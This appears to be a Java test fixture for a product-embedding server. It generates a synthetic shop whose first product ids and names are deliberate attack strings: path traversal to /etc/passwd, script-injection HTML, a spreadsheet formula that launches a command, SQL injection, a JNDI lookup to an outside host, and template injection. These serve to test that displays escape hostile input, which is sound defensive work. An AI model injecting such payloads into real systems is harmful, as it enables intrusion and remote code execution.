package dev.prod2vec.server;

import dev.prod2vec.config.Config;
import dev.prod2vec.disk.Tree;
import dev.prod2vec.live.LiveRun;
import dev.prod2vec.place.Places;
import dev.prod2vec.run.FolderPlace;
import dev.prod2vec.run.Run;
import dev.prod2vec.runner.RunListener;
import dev.prod2vec.runner.Runner;
import dev.prod2vec.store.Stores;
import dev.prod2vec.task.LocalEngine;
import dev.prod2vec.task.Tasks;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.TreeSet;
import java.util.stream.Stream;

/// A folder of finished runs of a small shop whose ids and names attack what shows them: four
/// aisles of eight products, and orders that each come from one aisle.
///
/// @param folder of the runs
record TestRuns(Path folder) {
  private static final int AISLES = 4;
  private static final int PRODUCTS_PER_AISLE = 8;
  static final int PRODUCTS = AISLES * PRODUCTS_PER_AISLE;

  /// The first products' ids; the others have numbers.
  static final List<String> HOSTILE_IDS =
      List.of(
          "../../etc/passwd",
          "a/b",
          "%2F%00",
          "x y+z",
          "?q=1&limit=2#end",
          "ä日本",
          "{id}",
          "..",
          "\"quoted\"",
          "id;drop=1",
          "\\back\\slash",
          "'");

  /// The first products' names.
  static final List<String> HOSTILE_NAMES =
      List.of(
          "</script><script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "=cmd|' /C calc'!A0",
          "\u202eright to left",
          "Robert'); DROP TABLE products;--",
          "${jndi:ldap://example.com/a}",
          "{{7*7}}",
          "\u0000null and \u0007bell");

  private static final class Holder {
    static final Path RUN = make();
  }

  static String id(int product) {
    return product < HOSTILE_IDS.size() ? HOSTILE_IDS.get(product) : Integer.toString(product);
  }

  static String name(int product) {
    return product < HOSTILE_NAMES.size()
        ? HOSTILE_NAMES.get(product) + " " + product
        : "Crème Brûlée No. " + product;
  }

  /// Adds a finished run.
  ///
  /// @param created orders the runs
  TestRuns add(String id, Instant created) {
    try {
      Path run = folder.resolve(id);
      // Nobody sees it before it is whole.
      Path staged = folder.resolveSibling("staged-" + id);
      Files.createDirectories(staged);
      Files.createDirectories(folder);
      try (Stream<Path> files = Files.list(Holder.RUN)) {
        for (Path file : files.filter(Files::isRegularFile).toList()) {
          Files.copy(file, staged.resolve(file.getFileName()));
        }
      }
      Path manifest = staged.resolve("manifest.json");
      String text = Files.readString(manifest);
      Files.writeString(
          manifest,
          text.replaceFirst("\"id\" : \"[^\"]*\"", "\"id\" : \"" + id + "\"")
              .replaceFirst("\"created\" : \"[^\"]*\"", "\"created\" : \"" + created + "\""));
      Files.move(staged, run);
      return this;
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /// Opens the newest run.
  LiveRun open(List<String> said) throws IOException {
    return LiveRun.open(places(), folder.toString(), Optional.empty(), said::add);
  }

  static Places places() {
    return new Places(Stores.local());
  }

  private static Path make() {
    try {
      Path shop = Files.createTempDirectory("prod2vec-served");
      Runtime.getRuntime().addShutdownHook(new Thread(() -> delete(shop)));
      write(shop);
      Config config = config(shop);
      Path place = shop.resolve("run");
      try (Run run =
          Run.create(new FolderPlace(place), config, Instant.parse("2026-01-01T00:00:00Z"))) {
        LocalEngine engine = LocalEngine.of(Map.of(), Stores.local());
        new Runner(id -> Tasks.of(id, _ -> engine), Clock.systemUTC(), RunListener.NONE).run(run);
      }
      return place;
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static void write(Path shop) throws IOException {
    Random random = new Random(1);
    StringBuilder orders = new StringBuilder("order_id,product_id\n");
    for (int order = 1; order <= 1_200; order++) {
      int aisle = random.nextInt(AISLES);
      TreeSet<Integer> basket = new TreeSet<>();
      int size = 2 + random.nextInt(4);
      while (basket.size() < size) {
        basket.add(aisle * PRODUCTS_PER_AISLE + random.nextInt(PRODUCTS_PER_AISLE));
      }
      for (int product : basket) {
        orders.append(order).append(',').append(quoted(id(product))).append('\n');
      }
    }
    Files.writeString(shop.resolve("orders.csv"), orders);
    StringBuilder products = new StringBuilder("product_id,product_name,aisle\n");
    for (int product = 0; product < PRODUCTS; product++) {
      products.append(
          "%s,%s,aisle %s\n"
              .formatted(
                  quoted(id(product)),
                  quoted(name(product).replace("\u0000", "").replace("\u0007", "")),
                  product / PRODUCTS_PER_AISLE));
    }
    Files.writeString(shop.resolve("products.csv"), products);
  }

  private static String quoted(String text) {
    return '"' + text.replace("\"", "\"\"") + '"';
  }

  private static Config config(Path shop) {
    Map<String, List<String>> keys = new LinkedHashMap<>();
    keys.put("orders.files", List.of(shop.resolve("orders.csv").toString()));
    keys.put("products.files", List.of(shop.resolve("products.csv").toString()));
    keys.put("products.category-columns", List.of("aisle"));
    keys.put("quality.min-products", List.of("2"));
    keys.put("training.dim", List.of("8"));
    keys.put("training.epochs", List.of("3"));
    keys.put("training.noise-products", List.of("32"));
    keys.put("training.threads", List.of("1"));
    keys.put("evaluation.bootstrap-samples", List.of("20"));
    return Config.SCHEMA.load(Optional.empty(), Map.of(), keys).config();
  }

  private static void delete(Path folder) {
    try {
      Tree.delete(folder);
    } catch (IOException _) {
      // The folder of temporary files is cleaned by others.
    }
  }
}
